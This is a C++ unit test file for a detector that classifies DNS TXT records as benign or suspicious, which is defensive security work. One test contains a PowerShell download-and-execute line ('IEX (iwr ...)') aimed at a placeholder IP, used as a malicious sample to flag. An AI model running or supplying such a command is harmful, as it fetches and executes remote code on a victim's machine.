#include "core/rules/verdict.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cmath>
#include <fstream>
#include <limits>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <thread>
#include <vector>

namespace txtsentry::rules {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

Evidence Scored(std::string_view text, float probability, double threshold = 0.5) {
  Evidence evidence;
  evidence.text = text;
  evidence.probability = probability;
  evidence.threshold = threshold;
  evidence.token_count = 9;
  return evidence;
}

std::unique_ptr<Judge> MakeJudge(Policy policy) {
  JudgeOptions options;
  options.policy = policy;
  return Judge::Create(options).value();
}

Verdict Decide(const Evidence& evidence) {
  static const Judge* const judge = MakeJudge(Policy::kNotebook).release();
  return judge->Decide(evidence);
}

Verdict Triage(const Evidence& evidence) {
  static const Judge* const judge = MakeJudge(Policy::kTriage).release();
  return judge->Decide(evidence);
}

TEST(JudgeTest, RecordIsSuspiciousFromTheThreshold) {
  const float below = std::nextafter(0.5f, 0.0f);
  EXPECT_TRUE(Decide(Scored("abc", 0.5f)).suspicious);
  EXPECT_FALSE(Decide(Scored("abc", below)).suspicious);
  EXPECT_TRUE(Decide(Scored("abc", 1.0f)).suspicious);
  EXPECT_FALSE(Decide(Scored("abc", 0.0f)).suspicious);
}

TEST(JudgeTest, ComparesProbabilityAndThresholdAsDoubles) {
  // 0.1f is slightly above the double 0.1; 0.7f is slightly below the double 0.7.
  EXPECT_TRUE(Decide(Scored("abc", 0.1f, 0.1)).suspicious);
  EXPECT_FALSE(Decide(Scored("abc", 0.7f, 0.7)).suspicious);
  EXPECT_TRUE(Decide(Scored("abc", 0.7f, static_cast<double>(0.7f))).suspicious);
}

TEST(JudgeTest, NanIsNotSuspicious) {
  EXPECT_FALSE(Decide(Scored("abc", std::numeric_limits<float>::quiet_NaN())).suspicious);
}

TEST(JudgeTest, NotebookPolicyIgnoresTheCategory) {
  const Verdict verdict = Decide(Scored("v=spf1 -all", 0.9f));
  EXPECT_TRUE(verdict.suspicious);
  EXPECT_EQ(verdict.category, Category::kSpf);
  EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kKnownKind));
}

TEST(JudgeTest, GivesNoReasonForAnUnknownRecord) {
  const Verdict verdict = Decide(Scored("hello world", 0.1f));
  EXPECT_FALSE(verdict.suspicious);
  EXPECT_EQ(verdict.category, Category::kUnknown);
  EXPECT_THAT(verdict.reasons, IsEmpty());
  EXPECT_EQ(verdict.matcher, "");
}

TEST(JudgeTest, NamesTheMatcherOfAKnownKind) {
  EXPECT_EQ(Decide(Scored("v=DKIM1; p=", 0.1f)).matcher, "dkim_revoked_key");
  EXPECT_EQ(Decide(Scored("docusign=2d5b671b-dc8d-4997-8657-2176d01f0c83", 0.1f)).matcher,
            "docusign");
}

TEST(JudgeTest, FindsAPayloadAndItsBlobBehindAPrefix) {
  const Verdict verdict = Decide(Scored("v=spf1 q83vEjRWeJq83vEjRWeJ", 0.1f));
  EXPECT_FALSE(verdict.suspicious);
  EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kPayloadInKnownKind, Reason::kEncodedBlob));
  ASSERT_TRUE(verdict.encoded_blob.has_value());
  EXPECT_EQ(verdict.encoded_blob->encoding, Encoding::kBase64);
  EXPECT_EQ(verdict.encoded_blob->offset, 7u);
  EXPECT_EQ(verdict.encoded_blob->length, 20u);
  EXPECT_TRUE(Triage(Scored("v=spf1 q83vEjRWeJq83vEjRWeJ", 0.1f)).suspicious);
}

TEST(JudgeTest, FindsACommandEvenInAKnownKind) {
  const Verdict verdict = Triage(Scored("txtvers=1 note=%TEMP%", 0.1f));
  EXPECT_TRUE(verdict.suspicious);
  EXPECT_EQ(verdict.category, Category::kServiceDiscovery);
  EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kKnownKind, Reason::kExecutionString));
  EXPECT_EQ(verdict.execution_rule, "program_path");
}

TEST(JudgeTest, TriageOverridesTheProbability) {
  EXPECT_FALSE(Triage(Scored("v=spf1 -all", 0.99f)).suspicious);
  EXPECT_TRUE(Triage(Scored("IEX (iwr http://192.0.2.1/a)", 0.01f)).suspicious);
  EXPECT_TRUE(Triage(Scored("hello world", 0.99f)).suspicious);
  EXPECT_FALSE(Triage(Scored("hello world", 0.01f)).suspicious);
}

TEST(JudgeTest, ReadsAListOfOwnerNames) {
  const std::string path = ::testing::TempDir() + "/owner_names";
  std::ofstream(path) << "no-defaults\nbuild_stamp stack\\..* [0-9a-f]{8} 8\n";
  JudgeOptions options;
  options.owner_names_file = path;
  const auto judge = Judge::Create(options);
  ASSERT_TRUE(judge.ok()) << judge.status();
  Evidence evidence = Scored("0802541e", 0.9f);
  evidence.owner_name = "stack.active.dev";
  EXPECT_THAT((*judge)->Decide(evidence).reasons, ElementsAre(Reason::kOwnerNameContext));
  EXPECT_EQ((*judge)->Decide(evidence).matcher, "build_stamp");

  std::ofstream(path) << "\nname owner value\n";
  const absl::Status status = Judge::Create(options).status();
  EXPECT_EQ(status.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(status.ToString(), HasSubstr(path + ": line 2: fields=3"));
  options.owner_names_file = path + ".missing";
  EXPECT_EQ(Judge::Create(options).status().code(), absl::StatusCode::kNotFound);
}

TEST(JudgeTest, NamesTheNearestKnownKind) {
  const auto judge = MakeJudge(Policy::kNotebook);
  EXPECT_EQ(judge->NearestKind("v=spf1 -all", ""), "spf");
  EXPECT_EQ(judge->NearestKind("v=spf1 whatever it is", ""), "spf");
  EXPECT_EQ(judge->NearestKind("the record docusign=xyz", ""), "docusign");
  EXPECT_EQ(judge->NearestKind("dDyI3zWpctUD7rvJGNj8QlrKuEiTqGT8ogqS2rSrOFc",
                               "_acme-challenge.example.com"),
            "acme_dns_01");
  EXPECT_EQ(judge->NearestKind("hello world", "www.example.com"), "");
}

TEST(TooLongVerdictTest, HasTheReasonAndNoLabel) {
  EXPECT_THAT(TooLongVerdict().reasons, ElementsAre(Reason::kTooLong));
  EXPECT_FALSE(TooLongVerdict().suspicious);
}

TEST(JudgeTest, RecordWithoutTokensIsEmpty) {
  Evidence evidence = Scored("\" \"", 0.99f);
  evidence.token_count = 0;
  const Verdict verdict = Decide(evidence);
  EXPECT_FALSE(verdict.suspicious);
  EXPECT_EQ(verdict.category, Category::kEmpty);
  EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kEmpty));
}

TEST(JudgeTest, ReportsInvalidUtf8) {
  const Verdict verdict = Decide(Scored("caf\xe9 latin", 0.6f));
  EXPECT_TRUE(verdict.suspicious);
  EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kNotUtf8));
  EXPECT_THAT(Decide(Scored("caf\xc3\xa9", 0.6f)).reasons, IsEmpty());
}

TEST(JudgeTest, UsesTheOwnerName) {
  Evidence evidence = Scored("dDyI3zWpctUD7rvJGNj8QlrKuEiTqGT8ogqS2rSrOFc", 0.99f);
  EXPECT_EQ(Decide(evidence).category, Category::kUnknown);
  evidence.owner_name = "_acme-challenge.example.com";
  const Verdict verdict = Decide(evidence);
  EXPECT_EQ(verdict.category, Category::kAcmeChallenge);
  EXPECT_EQ(verdict.matcher, "acme_dns_01");
  EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kOwnerNameContext));
}

TEST(JudgeTest, IsThreadSafe) {
  std::vector<Verdict> verdicts(8);
  std::vector<std::thread> threads;
  threads.reserve(verdicts.size());
  for (Verdict& verdict : verdicts) {
    threads.emplace_back([&verdict] { verdict = Decide(Scored("MS=ms12345678", 0.01f)); });
  }
  for (std::thread& thread : threads) thread.join();
  for (const Verdict& verdict : verdicts) {
    EXPECT_EQ(verdict.category, Category::kDomainVerification);
  }
}

TEST(CategoryNameTest, IsUnique) {
  std::set<std::string> names;
  for (int i = 0; i <= 15; ++i) {
    names.insert(std::string(CategoryName(static_cast<Category>(i))));
  }
  EXPECT_EQ(names.size(), 16u);
  EXPECT_EQ(CategoryName(Category::kDomainVerification), "domain_verification");
}

TEST(ReasonNameTest, ParsesTheCodesOfTheApi) {
  EXPECT_EQ(ReasonName(Reason::kKnownKind), "KNOWN_KIND");
  EXPECT_EQ(ReasonName(Reason::kPayloadInKnownKind), "PAYLOAD_IN_KNOWN_KIND");
  EXPECT_EQ(ReasonName(Reason::kExecutionString), "EXECUTION_STRING");
  EXPECT_EQ(ReasonName(Reason::kEncodedBlob), "ENCODED_BLOB");
  EXPECT_EQ(ReasonName(Reason::kOwnerNameContext), "OWNER_NAME_CONTEXT");
  EXPECT_EQ(ReasonName(Reason::kEmpty), "EMPTY");
  EXPECT_EQ(ReasonName(Reason::kNotUtf8), "NOT_UTF8");
  EXPECT_EQ(ReasonName(Reason::kTooLong), "TOO_LONG");
  for (int i = 0; i <= static_cast<int>(Reason::kTooLong); ++i) {
    const auto reason = static_cast<Reason>(i);
    EXPECT_EQ(ParseReason(ReasonName(reason)), reason);
  }
  EXPECT_EQ(ParseReason("SOMETHING_NEW"), std::nullopt);
}

}  // namespace
}  // namespace txtsentry::rules
